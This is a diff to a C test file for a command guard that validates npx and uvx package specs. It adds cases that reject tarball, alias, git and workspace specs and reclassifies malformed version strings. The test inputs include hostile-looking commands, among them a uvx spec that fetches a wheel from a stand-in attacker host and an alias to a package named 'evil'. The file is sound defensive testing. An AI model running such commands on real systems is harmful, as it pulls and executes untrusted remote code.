@@ -472,6 +472,15 @@ static const struct tcase attacks[] = {
 	{ "npx -y pkg@1.0.0@2", GUARD_BAD_VALUE, 2 },
 	{ "npx -y pkg@", GUARD_BAD_VALUE, 2 },
 	{ "npx -p git+ssh://x -- bin", GUARD_BAD_VALUE, 2 },
+	/* a tarball, alias or git spec in every place npx takes a package
+	 * (guard_npmspec_test has every spelling) */
+	{ "npx -y left-pad@1.tgz", GUARD_BAD_VALUE, 2 },
+	{ "npx -y -- left-pad@1.TAR.GZ", GUARD_BAD_VALUE, 3 },
+	{ "npx -p left-pad@1.tar bin", GUARD_BAD_VALUE, 2 },
+	{ "npx --package=left-pad@1.0.0-x.tgz bin", GUARD_BAD_VALUE, 1 },
+	{ "npx -p=x@1.0.0 -p y@npm:evil@1.0.0 bin", GUARD_BAD_VALUE, 3 },
+	{ "npx -y -p x@1.0.0 --package u/r#main bin", GUARD_BAD_VALUE, 5 },
+	{ "npx -y pkg@workspace:*", GUARD_BAD_VALUE, 2 },
 	{ "npx --package=./local bin", GUARD_BAD_VALUE, 1 },
 	{ "uvx --from pkg@https://attacker.example/x.whl tool",
 	    GUARD_BAD_VALUE, 2 },
@@ -859,10 +868,12 @@ static const struct tcase pinned[] = {
 	{ "npx -y pkg@~1.2.3", GUARD_UNPINNED, 2 },
 	{ "npx -y pkg@1.2", GUARD_UNPINNED, 2 },
 	{ "npx -y pkg@v1.2.3", GUARD_UNPINNED, 2 },
-	{ "npx -y pkg@01.2.3", GUARD_UNPINNED, 2 },
-	{ "npx -y pkg@1.2.3+build", GUARD_UNPINNED, 2 },
-	{ "npx -y pkg@1.2.3-01", GUARD_UNPINNED, 2 },
-	{ "npx -y pkg@1.2.3-", GUARD_UNPINNED, 2 },
+	/* npm reads these as versions (loose) or tags, the guard as none
+	 * of its forms */
+	{ "npx -y pkg@01.2.3", GUARD_BAD_VALUE, 2 },
+	{ "npx -y pkg@1.2.3+build", GUARD_BAD_VALUE, 2 },
+	{ "npx -y pkg@1.2.3-01", GUARD_BAD_VALUE, 2 },
+	{ "npx -y pkg@1.2.3-", GUARD_BAD_VALUE, 2 },
 	{ "npx -y @scope/pkg", GUARD_BAD_VALUE, 2 },
 	{ "npx -p pkg@1 -- bin", GUARD_UNPINNED, 2 },
 	{ "npx -p a@1.0.0 -p b -- bin", GUARD_UNPINNED, 4 },
